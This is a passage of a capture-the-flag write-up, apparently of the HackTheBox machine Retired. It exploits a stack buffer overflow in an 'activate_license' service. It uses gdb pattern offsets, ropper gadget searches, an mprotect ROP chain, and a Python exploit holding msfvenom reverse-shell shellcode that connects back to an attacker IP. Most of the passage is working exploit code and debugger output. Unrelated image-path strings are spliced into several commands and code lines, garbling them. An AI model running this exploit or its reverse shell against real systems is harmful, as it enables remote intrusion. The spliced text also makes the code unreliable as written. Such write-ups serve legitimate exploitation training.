Reading symbols from /media/sf_CTFs/hackthebox/retired-

I’ll make sure to set the follow-fork-mode to child, and then continue:

gdb-peda$ set follow-fork-mode child
gdb-peda$ c

I’ll create a pattern that’s 1024 long:

oxdf@hacky$ pattern_create.rb -l 1024

I’ll send the length followed by the buffer into the listening service:

oxdf@hacky$ echo -e"\x00\x04\x00\x00Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8Aa9Ab0Ab1Ab2Ab3Ab4Ab5Ab6Ab7Ab8Ab9Ac0Ac1Ac2Ac3Ac4Ac5Ac6Ac7Ac8Ac9Ad0Ad1Ad2Ad3Ad4Ad5Ad6Ad7Ad8Ad9Ae0Ae1Ae2Ae3Ae4Ae5Ae6Ae7Ae8Ae9Af0Af1Af2Af3Af4Af5Af6Af7Af8Af9Ag0Ag1Ag2Ag3Ag4Ag5Ag6Ag7Ag8Ag9Ah0Ah1Ah2Ah3Ah4Ah5Ah6Ah7Ah8Ah9Ai0Ai1Ai2Ai3Ai4Ai5Ai6Ai7Ai8Ai9Aj0Aj1Aj2Aj3Aj4Aj5Aj6Aj7Aj8Aj9Ak0Ak1Ak2Ak3Ak4Ak5Ak6Ak7Ak8Ak9Al0Al1Al2Al3Al4Al5Al6Al7Al8Al9Am0Am1Am2Am3Am4Am5Am6Am7Am8Am9An0An1An2An3An4An5An6An7An8An9Ao0Ao1Ao2Ao3Ao4Ao5Ao6Ao7Ao8Ao9Ap0Ap1Ap2Ap3Ap4Ap5Ap6Ap7Ap8Ap9Aq0Aq1Aq2Aq3Aq4Aq5Aq6Aq7Aq8Aq9Ar0Ar1Ar2Ar3Ar4Ar5Ar6Ar7Ar8Ar9As0As1As2As3As4As5As6As7As8As9At0At1At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9Ay0Ay1Ay2Ay3Ay4Ay5Ay6Ay7Ay8Ay9Az0Az1Az2Az3Az4Az5Az6Az7Az8Az9Ba0Ba1Ba2Ba3Ba4Ba5Ba6Ba7Ba8Ba9Bb0Bb1Bb2Bb3Bb4Bb5Bb6Bb7Bb8Bb9Bc0Bc1Bc2Bc3Bc4Bc5Bc6Bc7Bc8Bc9Bd0Bd1Bd2Bd3Bd4Bd5Bd6Bd7Bd8Bd9Be0Be1Be2Be3Be4Be5Be6Be7Be8Be9Bf0Bf1Bf2Bf3Bf4Bf5Bf6Bf7Bf8Bf9Bg0Bg1Bg2Bg3Bg4Bg5Bg6Bg7Bg8Bg9Bh0Bh1Bh2Bh3Bh4Bh5Bh6Bh7Bh8Bh9Bi0B" | nc 9999

Note the \x00\x04\x00\x00 at the start. That’s the value 0x400, or 1024.

gdb crashes:

Thread 2.1 "activate_licens" received signalSIGSEGV, Segmentation fault.
[Switching to Thread 0x7f32aae750c0 (LWP 1111329)]
RAX: 0x41e
RBX: 0x5650ffba47c0 (<__libc_csu_init>: push   r15)
RCX: 0x0
RDX: 0x7f32aae750c0 (0x00007f32aae750c0)
RSI: 0x0
RDI: 0x7ffef9233190 --> 0x7f32ab051060 (<__funlockfile>:        endbr64)
RBP: 0x4132724131724130 ('0Ar1Ar2A')
RSP: 0x7ffef9233928 ("r3Ar4Ar5Ar6Ar7Ar8Ar9As0As1As2As3As4As5As6As7As8As9At0At1At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9"...)
RIP: 0x5650ffba45c0 (<activate_license+643>:    ret)
R8 : 0x0
R9 : 0x41e
R10: 0x5650ffba50e6 -->0x666963657073000a ('\n')
R11: 0x246
R12: 0x5650ffba4220 (<_start>:  xor    ebp,ebp)
R13: 0x7ffef9233a80 ("Bc8Bc9Bd0Bd1Bd2Bd3Bd4Bd5Bd6Bd7Bd8Bd9Be0Be1Be2Be3Be4Be5Be6Be7Be8Be9Bf0Bf1Bf2Bf3Bf4Bf5Bf6Bf7Bf8Bf9Bg0Bg1Bg2Bg3Bg4Bg5Bg6Bg7Bg8Bg9Bh0Bh1Bh2Bh3Bh4Bh5Bh6Bh7Bh8Bh9Bi0\n\376R#\371\376\177")
R14: 0x0
R15: 0x0
EFLAGS: 0x10206 (carry PARITY adjust zero sign trap INTERRUPT direction overflow)
   0x5650ffba45b9 <activate_license+636>:       call   0x5650ffba40b0 <printf@plt>
   0x5650ffba45be <activate_license+641>:       nop
   0x5650ffba45bf <activate_license+642>:       leave
=> 0x5650ffba45c0 <activate_license+643>:       ret
   0x5650ffba45c1 <main>:       push   rbp
   0x5650ffba45c2 <main+1>:     mov    rbp,rsp
   0x5650ffba45c5 <main+4>:     sub    rsp,0x60
   0x5650ffba45c9 <main+8>:     mov    DWORD PTR [rbp-0x54],edi
0000| 0x7ffef9233928 ("r3Ar4Ar5Ar6Ar7Ar8Ar9As0As1As2As3As4As5As6As7As8As9At0At1At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9"...)
0008| 0x7ffef9233930("Ar6Ar7Ar8Ar9As0As1As2As3As4As5As6As7As8As9At0At1At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9Ay0Ay1Ay"...)
0016| 0x7ffef9233938 ("8Ar9As0As1As2As3As4As5As6As7As8As9At0At1At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9Ay0Ay1Ay2Ay3Ay4A"...)
0024| 0x7ffef9233940 ("s1As2As3As4As5As6As7As8As9At0At1At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9Ay0Ay1Ay2Ay3Ay4Ay5Ay6Ay7"...)
0032| 0x7ffef9233948 ("As4As5As6As7As8As9At0At1At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9Ay0Ay1Ay2Ay3Ay4Ay5Ay6Ay7Ay8Ay9Az"...)
0040| 0x7ffef9233950 ("6As7As8As9At0At1At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9Ay0Ay1Ay2Ay3Ay4Ay5Ay6Ay7Ay8Ay9Az0Az1Az2A"...)
0048| 0x7ffef9233958 ("s9At0At1At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9Ay0Ay1Ay2Ay3Ay4Ay5Ay6Ay7Ay8Ay9Az0Az1Az2Az3Az4Az5"...)
0056| 0x7ffef9233960("At2At3At4At5At6At7At8At9Au0Au1Au2Au3Au4Au5Au6Au7Au8Au9Av0Av1Av2Av3Av4Av5Av6Av7Av8Av9Aw0Aw1Aw2Aw3Aw4Aw5Aw6Aw7Aw8Aw9Ax0Ax1Ax2Ax3Ax4Ax5Ax6Ax7Ax8Ax9Ay0Ay1Ay2Ay3Ay4Ay5Ay6Ay7Ay8Ay9Az0Az1Az2Az3Az4Az5Az6Az7Az"...)
Legend: code, data, rodata, value
Stopped reason: SIGSEGV

RIP shows the crash at the ret instruction. The SIGSEGV happens because it’s trying to move an illegal address from the top of the stack into RIP. Looking at RSP, the value that would have been loaded is r3Ar4Ar5A. pattern_query takes four characters/bytes to identify the offset:

oxdf@hacky$ pattern_offset.rb -q r3Ar
[*] Exact match at offset 520

If I take into account the length word, that’s 524 bytes to the return address.

mprotect Address

I’ll use my script to download a copy of the LIBC library from Retired (the full path is in the maps file).

readelf will give the offset into libc that mprotect:

oxdf@hacky$ readelf -s libs/ | grep ' mprotect'
  1225: 00000000000f8c20    33 FUNC    WEAK   DEFAULT   14 mprotect@@GLIBC_2.2.5

Based on the maps file, libc is loaded at 0x7f4888944000.

mprotect Gadgets

According the the mprotect man page, it takes three parameters:int mprotect(void *addr, size_t len, int prot);

This means I’ll need to populate RDI, RSI, and RDX.

I’ll use Ropper (pip install ropper) to find all three in the I downloaded from Retired:

oxdf@hacky$ ropper -f --search "pop rdi"
0x0000000000026796: pop rdi; ret;
oxdf@hacky$ ropper -f --search "pop rsi"
0x000000000002890f: pop rsi; ret;
oxdf@hacky$ ropper -f --search "pop rdx"
0x00000000000cb1cd: pop rdx; ret;

jmp RSP

Once I call mprotect, I’ll want to jump back onto the stack to execute shellcode. Unfortunately, there’s no JMP RSP gadget in or activate_license. Fortunately, there are other libraries in use by activate_license. When I download and check, ropper finds a gadget:

oxdf@hacky$ ropper -f --search "jmp rsp"
0x00000000000d431d: jmp rsp;

I’ll need to make sure to have the address at which that library is loaded in memory from the maps file above as well.I’ll use msfvenom to generate the shellcode. I’m going to add the IP and port dynamically, so I’ll use the IP (\x12\x34\x56\x78) and the port 56814 (\xdd\xee) so they are easily spotted in the resulting bytes:


Python Script

I would love to generate a really slick Python script that manages fetching all the addresses and returns a shell, but for now, I’m going with a quick and dirty version that has addresses hardcoded at the top.

#!/usr/bin/env python3

import requests
import socket
import struct# Read from maps file
libc_base = 0x7f4888944000
libsql_base = 0x7f4888b09000
stack_start = 0x7ffe99226000
stack_end = 0x7ffe99247000

# Configure targets / attack IPs / port
REV_PORT = 443
REV_IP = ""
PORT_IP = struct.pack("!H", REV_PORT) + socket.inet_aton(REV_IP)
URL =f'http://{TARGET_IP}/activate_license.php'

# msfvenom -p linux/x64/shell_reverse_tcp LHOST=IP LPORT=PORT
sc  = b"\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x0f\x05\x48"
sc += b"\x97\x48\xb9\x02\x00" + PORT_IP + b"\x51\x48"
sc += b"\x89\xe6\x6a\x10\x5a\x6a\x2a\x58\x0f\x05\x6a\x03\x5e"
sc += b"\x48\xff\xce\x6a\x21\x58\x0f\x05\x75\xf6\x6a\x3b\x58"
sc += b"\x99\x48\xbb\x2f\x62\x69\x6e\x2f\x73\x68\x00\x53\x48"sc += b"\x89\xe7\x52\x57\x48\x89\xe6\x0f\x05"

def p64(num):
    return struct.pack("<Q", num)

# ROP Addresses
mprotect = p64(libc_base + 0xf8c20)   # readelf -s | grep " mprotect"
pop_rdi  = p64(libc_base + 0x26796)   # ropper -f --search "pop rdi"
pop_rsi  = p64(libc_base + 0x2890f)   # ropper -f --search "pop rsi"
pop_rdx  = p64(libc_base + 0xcb1cd)   # ropper -f --search "pop rdx"
jmp_rsp  = p64(libsql_base + 0xd431d) # ropper -f --search "jmp rsp"
stack_size = stack_end - stack_start

buf  = b'A' * 520                     # get to ret address
buf += pop_rdi + p64(stack_start)     # RDI = memory to change
